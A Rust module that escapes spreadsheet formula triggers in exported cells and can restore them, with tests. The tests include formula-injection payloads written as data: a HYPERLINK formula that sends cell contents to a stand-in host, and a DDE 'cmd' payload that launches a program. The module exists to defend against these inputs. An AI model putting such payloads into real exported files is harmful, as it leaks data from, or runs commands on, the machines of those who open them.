//! Cells that a spreadsheet would calculate: written so that it shows them as text, and read back as they were.
//!
//! Whoever opens a table by a double click may have another separator than ours, so a cell may also begin after a
//! `;`, a tab or a `|` inside one of ours.

use std::borrow::Cow;

/// What spreadsheets take for text, and do not show, at the beginning of a cell.
const MARK: char = '\'';

/// What makes a cell a formula; in Japanese programs the wide forms do too.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n')
        || matches!(c, '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}')
}

/// Where formulas can begin in a cell, as byte offsets: at its beginning and after each other separator.
fn beginnings(cell: &str) -> Vec<usize> {
    let mut found = vec![0];
    let mut open = true;
    for (at, c) in cell.char_indices() {
        let after = at + c.len_utf8();
        match c {
            ';' | '|' | '\t' | '\r' | '\n' => {
                open = true;
                found.push(after);
            }
            // Blanks and quotes may be dropped before what follows them.
            ' ' | '"' if open => found.push(after),
            _ => open = false,
        }
    }
    found
}

/// How many marks stand at the beginning of `rest`, if a formula follows them.
fn marks(rest: &str) -> Option<usize> {
    let formula = rest.trim_start_matches(MARK);
    formula
        .starts_with(is_trigger)
        .then(|| rest.len() - formula.len())
}

/// The cell with a `'` before everything in it that would be calculated.
pub(in crate::cli) fn defuse(cell: &str) -> Cow<'_, str> {
    edit(cell, |rest, out| {
        if marks(rest).is_some() {
            out.push(MARK);
        }
        rest
    })
}

/// The cell as it was before [`defuse`].
pub(in crate::cli) fn restore(cell: &str) -> Cow<'_, str> {
    edit(cell, |rest, _| match marks(rest) {
        Some(1..) => &rest[MARK.len_utf8()..],
        _ => rest,
    })
}

/// Gives `change` what follows each beginning; it may write before it, and says what of it is left.
fn edit(cell: &str, change: impl for<'a> Fn(&'a str, &mut String) -> &'a str) -> Cow<'_, str> {
    let all = beginnings(cell);
    if !all.iter().any(|at| marks(&cell[*at..]).is_some()) {
        return Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len() + all.len());
    for (index, at) in all.iter().enumerate() {
        let rest = change(&cell[*at..], &mut out);
        let from = cell.len() - rest.len();
        let until = all.get(index + 1).copied().unwrap_or(cell.len());
        out.push_str(&cell[from..until.max(from)]);
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn nothing_in_a_cell_is_calculated() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x?\"&A1)",
                "'=HYPERLINK(\"http://x?\"&A1)",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("＝1+1", "'＝1+1"),
            ("  =1", "  '=1"),
            ("\"=1", "\"'=1"),
            ("x;=1+1", "x;'=1+1"),
            ("x; \"=1", "x; \"'=1"),
            ("x|@y;+z", "x|'@y;'+z"),
            ("'=1", "''=1"),
        ] {
            assert_eq!(defuse(cell), written, "{cell:?}");
            assert_eq!(restore(written), cell, "{written:?}");
        }
        for plain in [
            "",
            "acme",
            "a=b",
            "alice@example.com",
            "a-b, -c",
            "'tis",
            "it's",
            "ks_live_1",
        ] {
            assert_eq!(defuse(plain), plain);
            assert_eq!(restore(plain), plain);
        }
    }

    proptest! {
        #[test]
        fn a_cell_is_read_as_it_was_written(cell in "[=+@;|'\" \t\r\na＝-]{0,12}") {
            let written = defuse(&cell);
            prop_assert_eq!(restore(&written), cell.as_str());
            for at in beginnings(&written) {
                prop_assert!(!written[at..].starts_with(is_trigger), "{:?}", written);
            }
        }
    }
}
